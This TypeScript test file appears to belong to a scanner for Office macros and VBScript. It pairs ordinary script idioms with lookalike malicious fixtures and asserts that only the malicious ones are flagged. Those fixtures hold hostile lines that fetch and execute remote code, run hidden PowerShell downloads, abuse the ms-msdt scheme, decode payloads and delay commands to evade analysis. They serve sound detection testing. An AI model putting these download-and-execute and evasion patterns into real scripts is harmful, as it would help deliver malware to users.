/** Idioms of ordinary scripts, each with the malicious script that looks most like it. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { macroDocument } from '#inspect/testing/vba-writer.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { outcome } = useInspector()
const script = (data: string): Buffer => writeZip([{ name: 'a.vbs', data }])
const SHELL = 'Set sh = CreateObject("WScript.Shell")\n'
const FILES = 'Set fso = CreateObject("Scripting.FileSystemObject")\n'
const FETCH = 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://192.0.2.1/a", False\nh.Send\n'
const EVIL = 'sh.Run "powershell -w hidden iwr http://192.0.2.1/a"\n'

const ORDINARY: Record<string, string> = {
  'a library in a file': `${FILES}ExecuteGlobal fso.OpenTextFile("lib.vbs").ReadAll\nMsgBox Hello("x")`,
  'a library beside the script': `${FILES}Execute fso.OpenTextFile(fso.GetParentFolderName(WScript.ScriptFullName) & "\\lib\\a.vbs", 1).ReadAll()`,
  'a library by an object': 'With CreateObject("Company.Includer")\nExecute .Read("Checker")\nEnd With',
  'a page': `${SHELL}sh.Run "http://www.example.com"`,
  'a page with an argument': `${SHELL}sh.Run "https://www.example.com/search?q=" & InputBox("What")`,
  'a loop without an end': `${SHELL}Do While True\nWScript.Sleep 1000\nsh.RegRead "HKCU\\a"\nLoop`,
  'a loop that waits': `${SHELL}i = 0\nDo While i = 0\nSet e = events.NextEvent\nWScript.Echo e.Name\nLoop`,
  'a loop until the first empty cell': `${SHELL}r = 1\nDo\nIf ws.Cells(r, 1).Value = "" Then Exit Do\nws.Cells(r, 2) = r\nr = r + 1\nLoop`,
  'a long loop': `${SHELL}For i = 1 To 99999999\nx = x + i\nNext\nsh.RegRead "HKCU\\a"`,
  'many statements for a database': `${SHELL}${Array.from({ length: 60 }, (_, i) => `db.Execute "update t set a = ${i}"\n`).join('')}`,
  'functions that call each other many times': `${SHELL}${Array.from({ length: 25 }, (_, i) => `Sub a${i}()\na${i + 1}\na${i + 1}\nEnd Sub\n`).join('')}Sub a25()\nx = 1\nEnd Sub\na0\nsh.RegRead "HKCU\\a"`,
}
const MALICIOUS: Record<string, string> = {
  'code of a server': `${FETCH}ExecuteGlobal h.responseText`,
  'code of a file that was fetched': `${FETCH}${FILES}Set s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.SaveToFile "lib.vbs"\nExecuteGlobal fso.OpenTextFile("lib.vbs").ReadAll`,
  'code of a temporary file':
    `${FILES}ExecuteGlobal fso.OpenTextFile(sh.ExpandEnvironmentStrings("%TEMP%") & "\\a.txt").ReadAll`.replace(
      'ExecuteGlobal',
      'Set sh = CreateObject("WScript.Shell")\nExecuteGlobal',
    ),
  'code of a picture': `${FILES}Execute fso.OpenTextFile("logo.png").ReadAll`,
  'decoded code': 'k = InputBox("k")\nFor i = 1 To Len(k)\ns = s & Chr(Asc(Mid(k, i, 1)) Xor 5)\nNext\nExecute s',
  'a program of a server': `${SHELL}sh.Run "http://www.example.com/a.exe"`,
  'a server without a name': `${SHELL}sh.Run "http://192.0.2.1/a.hta"`,
  'a scheme that runs code': `${SHELL}sh.Run "ms-msdt:/id PCWDiagnostic /skip force"`,
  'an address that is decoded': `${SHELL}sh.Run StrReverse("/elpmaxe.live//:ptth")`,
  'a command after a loop without an end': `${SHELL}Do While True\nIf Hour(Now) > 3 Then Exit Do\nLoop\n${EVIL}`,
  'a command after a loop that waits': `${SHELL}i = 0\nDo While i = 0\nSet e = events.NextEvent\nLoop\n${EVIL}`,
  'a command in a loop, late': `${SHELL}For i = 1 To 99999999\nIf i = 99999998 Then ${EVIL}Next`,
  'a command after a long loop': `${SHELL}For i = 1 To 99999999\nx = x + i\nNext\n${EVIL}`,
  'a command after many calls': `${SHELL}${Array.from({ length: 25 }, (_, i) => `Sub a${i}()\na${i + 1}\na${i + 1}\nEnd Sub\n`).join('')}Sub a25()\nx = 1\nEnd Sub\na0\n${EVIL}`,
}

suite('scripts', () => {
  for (const [name, data] of Object.entries(ORDINARY))
    test(`ordinary: ${name}`, () => assert.equal(outcome(script(data)), undefined))
  for (const [name, data] of Object.entries(MALICIOUS))
    test(`malicious: ${name}`, () => assert.match(outcome(script(data)) ?? '', /^Docvet\./))
})

suite('a control that shows pages', () => {
  const macro = (url: string): Buffer =>
    macroDocument(`Sub Workbook_Open()\r\nUserForm1.WebBrowser1.Navigate "${url}"\r\nEnd Sub\r\n`)
  test('a server whose name ends like a program', () => assert.equal(outcome(macro('http://example.com')), undefined))
  test('a program', () => assert.match(outcome(macro('http://example.com/a.com')) ?? '', /^Docvet\./))
})
